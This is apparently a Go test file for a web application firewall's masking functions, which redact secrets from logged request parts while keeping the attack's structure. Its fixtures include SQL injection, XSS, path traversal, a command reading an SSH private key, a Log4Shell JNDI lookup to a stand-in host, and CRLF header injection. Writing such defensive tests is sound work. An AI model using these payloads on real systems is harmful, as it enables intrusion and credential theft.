package waf

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestMaskTellsAnAttackByItsStructure(t *testing.T) {
	for part, want := range map[string]string{
		"1' UNION SELECT password FROM users--":   "0' UNION SELECT aaaaaaaa FROM aaaaa--",
		"<script>alert(document.cookie)</script>": "<script>alert(document.cookie)</script>",
		"../../etc/passwd":                        "../../etc/passwd",
		"; cat /home/alice/.ssh/id_rsa":           "; cat /aaaa/aaaaa/.ssh/aa_aaa",
		"${jndi:ldap://Evil7.example/x}":          "${jndi:ldap://Aaaa0.aaaaaaa/a}",
		"a\r\nSet-Cookie: b":                      "a␍␊Set-Cookie: a",
		"日本語' or 1=1":                             "···' or 0=0",
		"\xff\xfe":                                "··",
		"":                                        "",
	} {
		if got := Mask(part); got != want {
			t.Errorf("Mask(%q) = %q, want %q", part, got, want)
		}
	}
}

func TestMaskTellsNoSecret(t *testing.T) {
	for _, secret := range []string{
		"sp_live_01hq3m5k7n9p_Xy7Zq", "4111 1111 1111 1111", "correct horse battery staple", "preselected", "selectUnion", "x1select", "hunter2!",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.dGVzdA", "DE89370400440532013000", "alice@bank.example",
	} {
		masked := Mask(secret)
		for _, word := range wordsIn(masked) {
			if strings.Trim(word, "aA0_") != "" {
				t.Errorf("Mask(%q) = %q tells %q", secret, masked, word)
			}
		}
	}
}

func TestMaskTellsNotHowLongALongWordIs(t *testing.T) {
	if short, long := Mask(strings.Repeat("x", 9)), Mask(strings.Repeat("x", 9000)); short != long {
		t.Errorf("masked: %q and %q", short, long)
	}
}

func TestMaskEndsWhereThereIsNoRoom(t *testing.T) {
	masked := Mask(strings.Repeat("union select ", 100))
	if len(masked) > MaxPart || !strings.HasSuffix(masked, more) {
		t.Errorf("masked: %q, %d bytes", masked, len(masked))
	}
}

// FuzzMask holds that nothing of a part survives but its structure and words of the list: the same structure of other letters and digits is masked to the same text.
func FuzzMask(f *testing.F) {
	for _, part := range []string{"1' or '1'='1", "<svg/onload=alert(1)>", "selectpassword", "\x00\r\né", "sp_live_abc", "a_b select_1 SELECT"} {
		f.Add(part)
	}
	f.Fuzz(func(t *testing.T, part string) {
		masked := Mask(part)
		if len(masked) > MaxPart || !utf8.ValidString(masked) {
			t.Fatalf("%q has %d bytes, or isn't UTF-8", masked, len(masked))
		}
		for _, word := range wordsIn(masked) {
			if strings.Trim(word, "aA0_") != "" && !attackWords[strings.ToLower(word)] {
				t.Fatalf("Mask(%q) = %q tells %q", part, masked, word)
			}
		}
		if again := Mask(redrawn(part)); again != masked {
			t.Fatalf("Mask(%q) = %q, of the same structure %q", part, masked, again)
		}
	})
}

// FuzzMaskTarget holds that a target stays bounded and readable, and that a word that looks like a secret doesn't survive.
func FuzzMaskTarget(f *testing.F) {
	for _, target := range []string{"argument:comment", "/items/0/price", "argument:4111111111111111", "argument:alice@bank.example", "header:\xff"} {
		f.Add(target)
	}
	f.Fuzz(func(t *testing.T, target string) {
		masked := MaskTarget(target)
		if len(masked) > MaxTarget || !utf8.ValidString(masked) {
			t.Fatalf("%q has %d bytes, or isn't UTF-8", masked, len(masked))
		}
		if MaskTarget(masked) != masked && Whole(masked) {
			t.Fatalf("masked twice: %q, %q", masked, MaskTarget(masked))
		}
		if Whole(masked) && masked != strings.ToValidUTF8(target, "") && strings.IndexFunc(target, func(r rune) bool { return r < ' ' || r >= 0x7f }) < 0 {
			t.Fatalf("MaskTarget(%q) = %q passes for whole", target, masked)
		}
		for _, word := range wordsIn(masked) {
			if looksSecret(word) && strings.Trim(word, "aA0_") != "" {
				t.Fatalf("MaskTarget(%q) = %q tells %q", target, masked, word)
			}
		}
	})
}

func TestMaskTargetKeepsNamesAndMasksWhatLooksLikeASecret(t *testing.T) {
	for target, want := range map[string]string{
		"argument:comment":                          "argument:comment",
		"argument:items[0].unit_price":              "argument:items[0].unit_price",
		"header:User-Agent":                         "header:User-Agent",
		"argument:备注":                               "argument:备注",
		"/items/12/price":                           "/items/12/price",
		"argument:4111111111111111":                 "argument:00000000…",
		"argument:sp_live_01hq3m5k7n9pXy7ZqAAAA":    "argument:aa_aaaa_…",
		"argument:alice@bank.example":               "argument:aaaaa@aaaa.aaaaaaa…",
		"argument:9f86d081884c7d659a2feaa0c55ad015": "argument:0a00a000…",
		"body": "body",
	} {
		got := MaskTarget(target)
		if got != want {
			t.Errorf("MaskTarget(%q) = %q, want %q", target, got, want)
		}
		if Whole(got) != (got == target) {
			t.Errorf("Whole(%q) = %v", got, Whole(got))
		}
	}
}

func wordsIn(text string) []string {
	return strings.FieldsFunc(text, func(r rune) bool { return r >= utf8.RuneSelf || !ofWord(byte(r)) })
}

// redrawn returns a text of the same structure with other letters and digits.
func redrawn(part string) string {
	var out strings.Builder
	for part != "" {
		word, rest := cutWord(part)
		switch {
		case word == "":
			_, size := utf8.DecodeRuneInString(part)
			out.WriteString(part[:size])
			rest = part[size:]
		case attackWords[strings.ToLower(word)]:
			out.WriteString(word)
		default:
			for i := range len(word) {
				switch c := word[i]; {
				case '0' <= c && c <= '9':
					out.WriteByte('7')
				case 'A' <= c && c <= 'Z':
					out.WriteByte('Q')
				case 'a' <= c && c <= 'z':
					out.WriteByte('q')
				default:
					out.WriteByte(c)
				}
			}
		}
		part = rest
	}
	return out.String()
}
